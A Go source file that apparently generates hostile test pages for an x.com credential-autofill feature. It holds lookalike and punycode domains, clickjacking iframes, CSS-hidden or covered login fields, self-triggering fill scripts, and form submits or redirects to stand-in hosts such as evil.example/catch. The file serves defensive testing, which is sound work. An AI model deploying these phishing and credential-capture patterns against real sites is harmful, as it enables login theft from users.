package replica

import (
	"fmt"
	"strings"
)

// one makes a hostile page of a single document.
func one(scheme, host, path, body, why string) Hostile {
	bare := host
	if _, after, user := strings.Cut(bare, "@"); user {
		bare = after
	}
	bare, _, _ = strings.Cut(bare, ":")
	return Hostile{URL: scheme + "://" + host + path, Why: why, Pages: map[string]string{bare + path: body}}
}

// lookalikes are hosts that are not x.com but want to be taken for it.
var lookalikes = []string{
	"evil-x.com", "x.com.login-portal.example", "x-com.example", "xcom.example", "www-x.com", "login.x.com.example", "x.co", "x.cam", "x.com.co", "secure-x.com",
	"xn--x-7tb.com", "xn--80a.com", "xx.com", "x.corn.example", "twitter.com.example", "twltter.com", "xn--twtter-4va.com", "x.com-login.example", "myx.com", "x.org",
	"phish.x.com", "login.x.com", "a.b.x.com", "help.x.com", "ads.x.com", "x.com.", "127.0.0.1.x.com.example", "x.com%2eexample.example", "x.example", "accounts-x.com",
}

func lookalike(n int) Hostile {
	switch {
	case n >= 38:
		return one("https", pick(n, []string{"x.com@evil.example", "x.com:login@evil.example"}), loginPath, bothFields, "x.com is only the user's name in the address")
	case n >= 34:
		return one("http", pick(n, []string{"x.com", "www.x.com"}), pick((n-34)/2, []string{loginPath, "/login"}), bothFields, "not encrypted")
	case n >= 30:
		return one("https", pick(n, []string{"x.com:8443", "x.com:444", "www.x.com:8443", "pro.x.com:4433"}), loginPath, bothFields, "not the network's port")
	}
	host := lookalikes[n]
	host = strings.ReplaceAll(host, "%2e", "-")
	return one("https", host, pick(n, []string{"/login", loginPath}), bothFields, host+" is not x.com")
}

// framed puts fields into frames: the network's page in a stranger's, a stranger's in the network's, deep and sandboxed.
func framed(n int) Hostile {
	attributes := pick(n, []string{``, `sandbox="allow-scripts allow-same-origin allow-forms"`, `style="opacity:0.01"`, `allow="publickey-credentials-get"`, `style="position:fixed;left:-9000px"`})
	inner := map[bool]string{true: "x.com", false: "evil.example"}[n%2 == 0]
	outer := map[bool]string{true: "evil.example", false: "x.com"}[n%2 == 0]
	h := Hostile{
		URL: "https://" + outer + pick(n, []string{"/frame", loginPath}), Why: inner + " inside " + outer,
		Pages: map[string]string{inner + "/inner": bothFields},
	}
	if n >= 10 { // one more in between, so that the parent's host says nothing
		h.Pages["middle.example/middle"] = fmt.Sprintf(`<iframe src="https://%s/inner" width="500" height="300"></iframe>`, inner)
		inner, attributes = "middle.example/middle", ""
	} else {
		inner += "/inner"
	}
	h.Pages[strings.TrimPrefix(h.URL, "https://")] = fmt.Sprintf(`<h1>A page</h1><iframe %s src="https://%s" width="600" height="400"></iframe>`, attributes, inner)
	return h
}

// hiding styles take a field, or what it stands in, out of the user's sight.
var hidingStyles = []string{
	"opacity:0", "opacity:0.01", "opacity:0.3", "visibility:hidden", "display:none", "position:absolute;left:-5000px", "position:absolute;top:-5000px",
	"width:1px;height:1px;padding:0;border:0", "transform:scale(0)", "transform:scale(0.02)", "clip-path:inset(100%)", "clip-path:circle(0)", "pointer-events:none",
	"position:fixed;top:200vh", "filter:opacity(0)", "height:0;overflow:hidden;border:0;padding:0", "transform:translateX(-3000px)", "content-visibility:hidden",
	"mask:linear-gradient(transparent,transparent)", "position:absolute;clip:rect(0,0,0,0)",
}

// hidden hides the fields (n < 20) or an element around them on the network's own host.
func hidden(n int) Hostile {
	style := hidingStyles[n%len(hidingStyles)]
	body := fmt.Sprintf(`<form><input name="username_or_email" autocomplete="username webauthn" style="%s"><input name="password" type="password" style="%s"></form>`, style, style)
	if n >= len(hidingStyles) {
		body = fmt.Sprintf(`<div style="%s"><div>%s</div></div>`, style, bothFields)
	}
	return one("https", "x.com", loginPath, body+`<p>Nothing to see.</p>`, "fields cannot be seen: "+style)
}

// covered lays something over the fields.
func covered(n int) Hostile {
	above := pick(n, []string{
		`<div style="position:fixed;inset:0;background:#fff;z-index:9">Accept cookies?</div>`,
		`<div style="position:fixed;inset:0;background:#fff8;z-index:9"></div>`,
		`<iframe srcdoc="<p>hello</p>" style="position:fixed;inset:0;width:100%;height:100%;background:#fff;z-index:9"></iframe>`,
		`<div popover="manual" id="over" style="inset:0;width:100%;height:100%;background:#fff">Hello</div><script>document.getElementById("over").showPopover()</script>`,
		`<dialog id="over" style="inset:0;width:100%;height:100%">Hello</dialog><script>document.getElementById("over").showModal()</script>`,
	})
	if n >= 10 {
		above += `<script>setInterval(() => { for (const i of document.querySelectorAll("input")) i.focus(); }, 20)</script>`
	}
	fields := map[bool]string{true: bothFields, false: userField}[n%2 == 0]
	return one("https", "x.com", loginPath, fields+above, "something lies over the fields")
}

// wrongForm has fields that are no log-in.
func wrongForm(n int) Hostile {
	form := pick(n, []string{
		`<form id="signup"><h1>Create your account</h1><input name="username_or_email" autocomplete="username"><input name="password" type="password" autocomplete="new-password"></form>`,
		`<form><h1>Change your password</h1><input name="password" type="password" autocomplete="current-password"><input name="new_password" type="password"><input name="confirm" type="password"></form>`,
		`<form><h1>Choose a new password</h1><input name="password" type="password"><input name="password" type="password"></form>`,
		`<form action="/settings/email"><h1>Change email</h1><input name="email" type="email" autocomplete="email"><input name="password" type="password" autocomplete="new-password"></form>`,
		`<form role="search"><input type="search" name="username_or_email" autocomplete="username"></form>`,
		`<form><h1>Newsletter</h1><input name="newsletter_email" type="email"><button>Subscribe</button></form>`,
		`<form><input autocomplete="cc-number" name="username_or_email"><input autocomplete="cc-csc" type="password" name="password"></form>`,
		`<form><input name="username_or_email" autocomplete="username" disabled><input name="password" type="password" disabled></form>`,
		`<form><input name="username_or_email" autocomplete="username" readonly><input name="password" type="password" readonly></form>`,
		`<form><textarea name="username_or_email" autocomplete="username"></textarea><div contenteditable="true" name="password"></div></form>`,
	})
	// Some stand where the log-in should be, some where such forms are.
	path := pick(n/10, []string{loginPath, "/i/flow/signup", "/settings/password"})
	return one("https", "x.com", path, form, "no log-in form")
}

// scripted presses and types by itself; nobody asked for a fill.
func scripted(n int) Hostile {
	act := pick(n, []string{
		`for (const i of document.querySelectorAll("input")) { i.focus(); i.click(); }`,
		`document.querySelector("button").click();`,
		`for (const type of ["pointerdown","mousedown","mouseup","click"]) document.querySelector("input").dispatchEvent(new MouseEvent(type, {bubbles: true, composed: true}));`,
		`document.dispatchEvent(new KeyboardEvent("keydown", {key: "L", ctrlKey: true, shiftKey: true, bubbles: true}));`,
		`window.postMessage({type: "fill.start"}, "*"); window.postMessage({v: 1, id: 1, type: "fill.get", body: {field: "password"}}, "*");`,
		`dispatchEvent(new CustomEvent("fill.start", {detail: {only: "password"}}));`,
		`try { chrome.runtime.sendMessage({type: "fill.value", field: "password"}); } catch {}`,
		`navigator.credentials?.get?.({password: true, mediation: "silent"}).catch(() => {});`,
		`for (const e of document.querySelectorAll("*")) e.dispatchEvent(new InputEvent("beforeinput", {inputType: "insertReplacementText", bubbles: true}));`,
		`history.pushState(null, "", "?mode=login&fill=1"); history.replaceState(null, "", location.href);`,
	})
	h := one("https", pick(n/10, []string{"x.com", "evil.example"}), loginPath, bothFields+`<script>addEventListener("load", () => setInterval(() => {`+act+`}, 40))</script>`, "presses by itself")
	return h
}

// leaves goes elsewhere after a click, while a value may be on its way.
func leaves(n int) Hostile {
	go1 := pick(n, []string{
		`location.assign("https://evil.example/catch")`, `location.replace("https://evil-x.com/catch")`, `document.querySelector("form").action = "https://evil.example/catch"; document.querySelector("form").submit()`,
		`document.open(); document.write('<script src="https://evil.example/replica/lib.js"></'+'script>'); document.close(); location.assign("https://evil.example/catch")`,
		`history.pushState(null, "", "/settings/password"); location.assign("http://x.com/catch")`,
	})
	when := pick(n/5, []string{
		`addEventListener("focusin", () => { GO })`, `addEventListener("load", () => setTimeout(() => { GO }, 10))`,
		`document.getElementById("bait").addEventListener("click", () => { GO })`, `addEventListener("load", () => setTimeout(() => { GO }, 120))`,
	})
	// The field comes a moment after the page, so that a request for a value falls into the move.
	body := `<button id="bait" type="button">Go on</button><div style="opacity:0">` + userField + `</div><script>` + strings.ReplaceAll(when, "GO", go1) + `</script>`
	h := one("https", "x.com", loginPath, body, "goes elsewhere")
	for _, host := range []string{"evil.example", "evil-x.com", "x.com"} {
		h.Pages[host+"/catch"] = bothFields
	}
	h.Pages["x.com/catch"] = `<p>Gone.</p>`
	h.Clicks = true
	return h
}

// slips stays in its document, but changes into something else between the request and the value.
func slips(n int) Hostile {
	change := pick(n, []string{
		`for (const i of document.querySelectorAll("input")) i.type = "search"`,
		`document.querySelector("form").style.opacity = 0`,
		`history.pushState(null, "", "/i/flow/signup"); document.querySelector("form").innerHTML = '<input name="password" type="password" autocomplete="new-password"><input name="again" type="password" autocomplete="new-password">'`,
		`document.querySelector("form").remove()`,
		`for (const i of document.querySelectorAll("input")) i.disabled = true`,
	})
	body := bothFields + `<script>const change = () => {` + change + `}; ` + pick(n/5, []string{
		`change(); new MutationObserver(change).observe(document, {subtree: true, attributes: true, attributeFilter: ["data-keyshift"]});`,
		`document.addEventListener("DOMContentLoaded", change);`,
	}) + `</script>`
	return one("https", "x.com", loginPath, body, "changes what it is")
}
